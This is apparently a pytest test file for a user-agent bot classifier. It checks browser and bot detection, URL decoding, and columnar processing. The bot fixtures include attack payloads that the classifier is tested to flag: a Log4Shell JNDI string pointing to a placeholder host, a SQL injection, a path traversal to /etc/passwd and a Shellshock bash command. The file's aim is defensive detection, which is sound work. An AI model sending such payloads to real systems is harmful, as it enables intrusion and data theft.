"""Who is a bot: single texts, and whole columns of them."""

import pyarrow as pa
import pytest

from shardlake.packs.bots.agents import Agents, plain
from shardlake.packs.bots.classify import Classifier, Verdict
from shardlake.packs.bots.patterns import load

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
PEOPLE = [
    CHROME,
    f"{CHROME} Edg/120.0.2210.91",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; Android 9; CUBOT Build/PPR1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.0.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
    "Opera/9.80 (Windows NT 6.1; U; es-ES) Presto/2.9.181 Version/12.00",
]
BOTS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search", "Googlebot"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "search", "bingbot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)", "ai", "GPTBot"),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor", "UptimeRobot"),
    ("curl/8.4.0", "library", "curl"),
    ("python-requests/2.31.0", "library", "python-requests"),
    ("kube-probe/1.27", "monitor", "kube-probe"),
    ("${jndi:ldap://203.0.113.9/a}", "attack", "log4shell"),
    (f"{CHROME}' OR '1'='1", "attack", "SQL injection"),
    ("Googlebot/2.1 ../../../../etc/passwd", "attack", "path traversal"),
    ("() { :; }; /bin/bash -c 'id'", "attack", "shellshock"),
    ("Mozilla/5.0 (compatible; WondrousSpider/1.0)", "unknown", "WondrousSpider"),
    ("UniversalParser/4.2 +http://example.com/", "unknown", "UniversalParser"),
    ("Mozilla/5.0 (X11; Linux) Gecko (http://example.com/robot)", "unknown", "robot"),
    ("Mozilla/9.9 (Windows NT 10.0)", "unknown", "forged browser"),
    ("Mozilla/5.0 (Macintosh: Intel Mac OS X 10_15) App3leWebKit/537.36", "unknown", "forged browser"),
]  # fmt: skip


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier()


@pytest.mark.parametrize("user_agent", PEOPLE)
def test_an_ordinary_browser_is_a_person(classifier: Classifier, user_agent: str) -> None:
    assert classifier.verdict(user_agent) == Verdict(is_bot=False)


@pytest.mark.parametrize(("user_agent", "category", "name"), BOTS)
def test_a_bot_has_a_category_a_name_and_evidence(
    classifier: Classifier, user_agent: str, category: str, name: str
) -> None:
    verdict = classifier.verdict(user_agent)
    assert (verdict.is_bot, verdict.category, verdict.name) == (True, category, name)
    assert verdict.evidence is not None
    assert verdict.evidence.startswith(("pattern ", "rule "))


@pytest.mark.parametrize("user_agent", [None, ""])
def test_a_client_that_tells_nothing_is_a_bot(classifier: Classifier, user_agent: str | None) -> None:
    assert classifier.verdict(user_agent).evidence == "rule no-user-agent"


def test_each_listed_bot_is_found_in_its_own_example_and_has_a_name(classifier: Classifier) -> None:
    listed = [pattern for pattern in load() if pattern.example]
    assert len(listed) > 500
    verdicts = {pattern.expression: classifier.verdict(pattern.example) for pattern in listed}
    # One writes as a telephone and one as a browser of a telephone.
    assert {text for text, v in verdicts.items() if not v.is_bot} <= {"ips-agent", r"^Silk\/"}
    assert all(v.category and v.name and len(v.name) <= 64 for v in verdicts.values() if v.is_bot)


@pytest.mark.parametrize(
    ("logged", "decoded"),
    [
        ("Mozilla/5.0%20(X11)", "Mozilla/5.0 (X11)"),
        ("Mozilla/5.0%2520(X11)", "Mozilla/5.0 (X11)"),
        ("a%252520b", "a%20b"),
        ("100%", "100%"),
        ("a+b", "a+b"),
        ("%ff", "�"),
    ],
)
def test_a_user_agent_is_decoded_at_most_twice(logged: str, decoded: str) -> None:
    assert plain(logged) == decoded


def column(values: list[str | None]) -> pa.DictionaryArray:
    return pa.array(values, pa.string()).dictionary_encode()


def test_a_column_is_judged_value_by_value() -> None:
    logged = ["curl/8.4.0", None, CHROME.replace(" ", "%20"), "curl%2F8.4.0", None, CHROME]
    made = {name: array.to_pylist() for name, array in Agents().columns(column(logged)).items()}
    assert made["user_agent"] == ["curl/8.4.0", None, CHROME, "curl/8.4.0", None, CHROME]
    assert made["is_bot"] == [True, True, False, True, True, False]
    assert made["bot_category"] == ["library", "unknown", None, "library", "unknown", None]
    assert made["bot_name"] == ["curl", "no user agent", None, "curl", "no user agent", None]


def test_what_is_remembered_is_bounded_and_changes_no_verdict() -> None:
    small, large = Agents(known_max=2), Agents()
    for start in range(0, 30, 3):
        values: list[str | None] = [f"Mozilla/5.0 (compatible; Bot{i}/1.0)" for i in range(start, start + 5)]
        one, other = small.columns(column(values)), large.columns(column(values))
        assert {n: a.to_pylist() for n, a in one.items()} == {n: a.to_pylist() for n, a in other.items()}
    assert len(small._known) <= 2


@pytest.mark.parametrize("values", [[], [None], [None, CHROME][:1], [CHROME]])
def test_columns_of_few_values_are_whole(values: list[str | None]) -> None:
    for array in Agents().columns(column(values)).values():
        array.validate(full=True)
        assert len(array) == len(values)
